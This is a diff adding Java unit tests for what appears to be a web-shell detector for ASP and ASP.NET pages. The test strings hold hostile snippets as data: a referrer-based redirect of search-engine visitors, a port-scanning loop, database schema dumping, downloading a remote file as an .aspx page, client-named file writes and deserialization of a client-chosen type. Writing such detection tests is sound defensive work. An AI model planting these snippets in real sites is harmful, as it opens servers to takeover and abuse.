@@ -190,4 +190,79 @@ class PurposesTest extends PageTest {
     String product = "<%@ Page Language=\"C#\" Inherits=\"Panel.Health\" %><% " + names + " %>";
     assertThat(isShell(product)).isFalse();
   }
+
+  @Test
+  void whoComesFromASearchEngineIsSentElsewhere() {
+    String page =
+        "<script runat=\"server\" language=\"VBScript\">Sub Session_OnStart\nr = "
+            + REQ
+            + ".ServerVariables(\"HTTP_REFERER\")\n"
+            + "If InStr(r, \"google.\") Or InStr(r, \"%s\") Then\n"
+            + "Response.Redirect \"%s\"\nEnd If\nEnd Sub</script>";
+    assertThat(isShell(page.formatted("baidu.", "http://a.test/"))).isTrue();
+    assertThat(isShell(page.formatted("baidu.", "welcome.asp"))).isFalse();
+    assertThat(isShell(page.formatted("intranet.", "http://a.test/"))).isFalse();
+    String opens = "Set c = CreateObject(\"ADODB.Connection\")\nc.Open \"DSN=a\"\nr = ";
+    String counted = page.replace("r = ", opens);
+    assertThat(isShell(counted.formatted("baidu.", "http://a.test/"))).isFalse();
+  }
+
+  @Test
+  void portsAreTriedOneAfterTheOther() {
+    String page =
+        "<%% For p = 1 To 9\nSet x = CreateObject(\"MSXML2.Server"
+            + "XMLHTTP\")\n"
+            + "x.Open \"GET\", \"http://\" & %s & \":\" & %s, False\nx.Send\nNext %%>";
+    String host = REQ + "(\"h\")";
+    assertThat(isShell(page.formatted(host, "p"))).isTrue();
+    assertThat(isShell(page.formatted(host, "port"))).isFalse();
+    assertThat(isShell(page.formatted("\"a.test\"", "p"))).isFalse();
+  }
+
+  @Test
+  void tablesOfWhateverDatabase() {
+    String page =
+        "<%% Set c = CreateObject(\"ADODB.Connection\")\nc.Open \"DBQ=\" & %s\n"
+            + "Set r = c.%s(20)\nResponse.Write r(0) %%>";
+    String sent = REQ + "(\"d\")";
+    assertThat(isShell(page.formatted(sent, "OpenSchema"))).isTrue();
+    assertThat(isShell(page.formatted(sent, "Execute"))).isFalse();
+    assertThat(isShell(page.formatted("path", "OpenSchema"))).isFalse();
+  }
+
+  @Test
+  void whatIsLoadedDownBecomesAPage() {
+    String load = "new System.Net.Web" + "Client().Download" + "File(\"http://a.test/a\", %s);";
+    assertThat(isShellInCsharp(load.formatted("Server.MapPath(\"b.aspx\")"))).isTrue();
+    assertThat(isShellInCsharp(load.formatted("Server.MapPath(\"b.xml\")"))).isFalse();
+  }
+
+  @Test
+  void filesOfWhichTheClientHasTheName() {
+    String write = "System.IO.File.Write" + "AllText(%s, " + REQ + ".Form[\"t\"]);";
+    String name = REQ + ".Form[\"n\"]";
+    assertThat(isShellInCsharp(write.formatted("Server.MapPath(\"~/\") + " + name))).isTrue();
+    assertThat(isShellInCsharp(write.formatted("Server.MapPath(\".\") + \"/\" + " + name)))
+        .isTrue();
+    assertThat(isShellInCsharp(write.formatted("Server.MapPath(\"~/\") + \"notes/\" + " + name)))
+        .isFalse();
+    String text = write.formatted("Server.MapPath(\"~/\") + " + name + " + \".txt\"");
+    assertThat(isShellInCsharp(text)).isFalse();
+    String save = REQ + ".Files[0].Save" + "As(\"%s\" + " + REQ + ".Files[0].FileName);";
+    assertThat(isShellInCsharp(save.formatted("./"))).isTrue();
+    assertThat(isShellInCsharp(save.formatted("d:/in/"))).isFalse();
+  }
+
+  @Test
+  void objectsOfWhateverClass() {
+    String read =
+        "new System.Xml.Serialization.Xml"
+            + "Serializer(%s).Deserialize(new Reader("
+            + REQ
+            + "[\"d\"]));";
+    String sent = REQ + "[\"t\"]";
+    assertThat(isShellInCsharp(read.formatted("Type.GetType(" + sent + ")"))).isTrue();
+    assertThat(isShellInCsharp(read.formatted("Type.GetType(\"Shop.\" + " + sent + ")"))).isFalse();
+    assertThat(isShellInCsharp(read.formatted("typeof(Order)"))).isFalse();
+  }
 }
